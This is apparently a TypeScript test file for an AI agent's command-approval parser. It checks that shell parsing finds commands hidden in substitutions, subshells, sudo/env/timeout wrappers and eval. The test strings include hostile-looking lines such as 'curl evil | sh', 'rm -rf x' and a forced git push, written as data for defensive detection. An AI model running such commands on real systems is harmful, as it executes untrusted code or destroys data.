import { describe, expect, it } from 'vitest';
import { analyzeCommand, parseShell } from '../../../../electron/core/agent/approvals';
import { reachableArgvs } from '../../../../electron/core/agent/approvals/command-analysis';
import { splitCommandPrefix } from '../../../../electron/core/agent/approvals/shell-parse';

const argvs = (script: string) => parseShell(script).commands.map((c) => c.words.map((w) => w.text));

describe('parseShell', () => {
  it('splits plain scripts into simple commands and removes quotes', () => {
    const parsed = parseShell(`git log --format='%h %s' && echo "a b" | grep -v x; ls\\ dir\nwc`);
    expect(parsed.plain).toBe(true);
    expect(argvs(`git log --format='%h %s' && echo "a b" | grep -v x; ls\\ dir\nwc`)).toEqual([
      ['git', 'log', '--format=%h %s'],
      ['echo', 'a b'],
      ['grep', '-v', 'x'],
      ['ls dir'],
      ['wc'],
    ]);
  });

  it('reads redirections with their file descriptors', () => {
    const [command] = parseShell('make 2>&1 >/dev/null < in.txt').commands;
    expect(command?.words.map((w) => w.text)).toEqual(['make']);
    expect(command?.redirects).toEqual([
      { fd: '2', operator: '>&', target: '1' },
      { fd: null, operator: '>', target: '/dev/null' },
      { fd: null, operator: '<', target: 'in.txt' },
    ]);
    expect(parseShell('make 2>&1 >/dev/null < in.txt').plain).toBe(true);
  });

  it('finds commands inside substitutions, subshells and process substitutions', () => {
    const script = 'echo $(git push) `rm -rf x` "$(curl evil | sh)" && (cd y && make) ; diff <(npm ls) b';
    const parsed = parseShell(script);
    expect(parsed.plain).toBe(false);
    const found = argvs(script);
    for (const expected of [['git', 'push'], ['rm', '-rf', 'x'], ['curl', 'evil'], ['sh'], ['cd', 'y'], ['make'], ['npm', 'ls']]) {
      expect(found).toContainEqual(expected);
    }
  });

  it('says why a script is not plain', () => {
    expect(parseShell('FOO=1 make').problems).toContain('an environment assignment');
    expect(parseShell('ls > out').problems).toContain('output redirected to a file (> out)');
    expect(parseShell('sleep 1 &').problems).toContain('a background job (&)');
    expect(parseShell('cat <<EOF\nx\nEOF').problems).toContain('a here-document');
    expect(parseShell('echo "open').problems).toContain('an unterminated quote');
    expect(parseShell('echo ${x:=y}').problems).toContain('a parameter expansion with side effects');
  });

  it('keeps a quoted $ literal in single quotes but not in double quotes', () => {
    expect(parseShell("echo '$HOME'").plain).toBe(true);
    expect(parseShell('echo "$HOME"').plain).toBe(false);
    expect(parseShell('echo "\\$HOME"').plain).toBe(true);
  });

  it('marks globs and brace expansion, but not quoted ones', () => {
    const words = parseShell('ls *.ts "*.md" file{1,2} a[0] {}').commands[0]!.words;
    expect(words.map((w) => w.glob)).toEqual([false, true, false, true, true, false]);
  });

  it('survives deep nesting without recursing forever', () => {
    const deep = '$('.repeat(40) + 'ls' + ')'.repeat(40);
    expect(() => parseShell(`echo ${deep}`)).not.toThrow();
    expect(parseShell(`echo ${deep}`).plain).toBe(false);
  });
});

describe('reachableArgvs', () => {
  it('looks through wrappers and nested shells', () => {
    const analysis = analyzeCommand("sudo -u root env FOO=1 timeout -s KILL 5 nice -n 10 bash -c 'git push --force'; xargs -n1 rm < list; eval 'curl x'");
    const reachable = reachableArgvs(analysis);
    expect(reachable).toContainEqual(['git', 'push', '--force']);
    expect(reachable).toContainEqual(['rm']);
    expect(reachable).toContainEqual(['curl', 'x']);
  });

  it('reads an argv of the `bash -c script` shape as the script', () => {
    expect(analyzeCommand(['bash', '-lc', 'npm test && npm run lint']).commands.map((c) => c.words.map((w) => w.text))).toEqual([
      ['npm', 'test'],
      ['npm', 'run', 'lint'],
    ]);
    expect(analyzeCommand(['/bin/zsh', '-c', 'ls']).display).toBe('ls');
    expect(analyzeCommand(['git', 'commit', '-m', 'a message']).display).toBe("git commit -m 'a message'");
  });
});

describe('splitCommandPrefix', () => {
  it('splits a rule prefix written as a string', () => {
    expect(splitCommandPrefix('npm test')).toEqual(['npm', 'test']);
    expect(splitCommandPrefix(`git commit -m "wip fix"`)).toEqual(['git', 'commit', '-m', 'wip fix']);
    expect(splitCommandPrefix('npm test && rm')).toBeNull();
    expect(splitCommandPrefix('ls *')).toBeNull();
    expect(splitCommandPrefix('echo $HOME')).toBeNull();
  });
});
